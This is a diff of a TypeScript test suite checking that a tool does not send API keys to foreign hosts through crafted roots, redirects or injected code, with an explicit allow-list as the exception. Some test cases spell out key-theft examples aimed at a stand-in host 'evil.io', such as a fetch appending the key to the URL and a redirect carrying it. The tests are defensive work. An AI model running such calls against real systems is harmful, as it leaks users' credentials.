@@ -1,4 +1,5 @@
-// The key of a known company does not leave for a stranger: not by a root, a redirect or code, unless its user names the host.
+// The key of a known company is not sent to a foreign host by a root, a redirect or code, unless the user names the
+// host.
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -21,7 +22,7 @@ interface Way {
   readonly client?: HttpClient;
 }
 
-/** The key stands in a header unless `main` puts it elsewhere. */
+/** The key is in a header unless `main` puts it elsewhere. */
 async function send(key: string, { root = 'https://evil.io', main, code, allowed = {}, ...way }: Way = {}) {
   const fake = fakeClient();
   const { facts, records } = await runHandled(code ?? '{}', {
@@ -72,7 +73,7 @@ describe('a crafted root does not get the key', () => {
     expect(records.map(({ status }) => status)).toEqual(['refused', 'refused', 'refused']);
   });
 
-  it('nor does the owner by http', async () => {
+  it('and the owner does not get it by http', async () => {
     const { sent, facts } = await send('OPENAI_API_KEY', { root: 'http://api.openai.com' });
     expect(sent).toEqual([]);
     const why = 'which is not asked by https';
@@ -103,7 +104,7 @@ describe('a crafted root does not get the key', () => {
     expect(facts?.reason).toBe(said('OPENAI_API_KEY', 'OpenAI', 'evil.io', FOREIGN));
   });
 
-  it('in the name of a host, where it is written small', async () => {
+  it('in the name of a host, where it appears in lower case', async () => {
     const fake = fakeClient();
     const { facts } = await runHandled('{}', {
       ...{ ...NO_CODE, client: fake, serverParams: { OPENAI_API_KEY: 'SkSmall42' } },
@@ -117,7 +118,7 @@ describe('a crafted root does not get the key', () => {
   });
 });
 
-describe('at home it works', () => {
+describe("a key at its owner's host works", () => {
   it.each([
     ['OPENAI_API_KEY', 'https://api.openai.com/v1'],
     ['AZURE_OPENAI_API_KEY', 'https://api.openai.com/v1'],
@@ -134,11 +135,11 @@ describe('at home it works', () => {
     expect(records[0]).not.toHaveProperty('gathered');
   });
 
-  it('and a request without the key is sent to anybody', async () => {
+  it('and a request without the key is sent to any host', async () => {
     expect((await send('OPENAI_API_KEY', { main: { headers: {} } })).sent).toHaveLength(3);
   });
 
-  it('a key that is a host goes to that host', async () => {
+  it('a key that is a host name is sent to that host', async () => {
     const fake = fakeClient();
     const run = (root: string) =>
       runHandled('{}', {
@@ -164,13 +165,13 @@ describe('code', () => {
   it.each([
     ['of a stranger', fetches("'https://evil.io/x'")],
     ['that hides that it was refused', fetches("'https://evil.io/x?k=' + key", '.catch( () => 0 )')],
-  ])('%s does not get it out', async (_, code) => {
+  ])('%s does not leak the key', async (_, code) => {
     const { sent, facts } = await send('OPENAI_API_KEY', { main, code });
     expect(sent).toEqual([]);
     expect(facts?.reason).toBe(said('OPENAI_API_KEY', 'OpenAI', 'evil.io', FOREIGN));
   });
 
-  it('of the owner does not send it elsewhere', async () => {
+  it('does not send the key of its owner elsewhere', async () => {
     const code = fetches("'https://evil.io/x'");
     const { sent, facts } = await send('OPENAI_API_KEY', { main, code, root: 'https://api.openai.com' });
     expect(sent).toEqual([]);
@@ -217,13 +218,13 @@ describe('a redirect', () => {
   it.each([
     ['https://evil.io/got?k=KEY', 'evil.io', FOREIGN],
     ['http://api.openai.com/got?k=KEY', 'api.openai.com', 'which is not asked by https'],
-  ])('that carries it to %s is not followed', async (to, host, why) => {
+  ])('that carries the key to %s is not followed', async (to, host, why) => {
     const { facts, followed } = await redirected(to);
     expect(followed).toBe(0);
     expect(facts?.reason).toContain(`was not sent to ${host}, ${why}`);
   });
 
-  it.each(['https://evil.io/without', 'https://eu.openai.com/got?k=KEY'])('to %s is', async (to) => {
+  it.each(['https://evil.io/without', 'https://eu.openai.com/got?k=KEY'])('to %s is followed', async (to) => {
     const { facts, followed } = await redirected(to);
     expect([followed, facts?.status]).toEqual([3, 'ok']);
   });
@@ -236,7 +237,7 @@ describe('--send-key', () => {
     ['LLM.corp.example:8080', 'http://llm.corp.example:8080', 'llm.corp.example:8080'],
     ['llm.corp.example:443', 'https://llm.corp.example', 'llm.corp.example:443'],
     ['[::1]:8080', 'http://[::1]:8080', '[::1]:8080'],
-  ])('%s lets it go to %s, and the record says so', async (entry, root, host) => {
+  ])('%s allows sending it to %s, and the record shows that', async (entry, root, host) => {
     const { sent, facts, records } = await send(NAME, { root, allowed: { [NAME]: ['a.example', entry] } });
     expect(sent).toHaveLength(3);
     expect(records[0]?.gathered).toEqual({ sentKeys: [`${NAME}=${host}`] });
@@ -248,12 +249,12 @@ describe('--send-key', () => {
     [NAME, 'llm.corp.example', 'http://llm.corp.example'],
     [NAME, 'llm.corp.example:8080', 'https://llm.corp.example'],
     ['OTHER_KEY', 'llm.corp.example', 'https://llm.corp.example'],
-  ])('%s=%s means nothing else: %s', async (name, entry, root) => {
+  ])('%s=%s allows nothing else: %s', async (name, entry, root) => {
     expect((await send(NAME, { root, allowed: { [name]: [entry] } })).sent).toEqual([]);
   });
 
   it.each(['', '*.example.org', 'https://a.example', 'a.example/x', 'u@a.example', 'a b', 'a:b', '::1'])(
-    'takes no %j',
+    'refuses %j',
     (entry) => {
       expect(() => parseSendKeys({ [NAME]: [entry] })).toThrow(/NET-023/);
     },
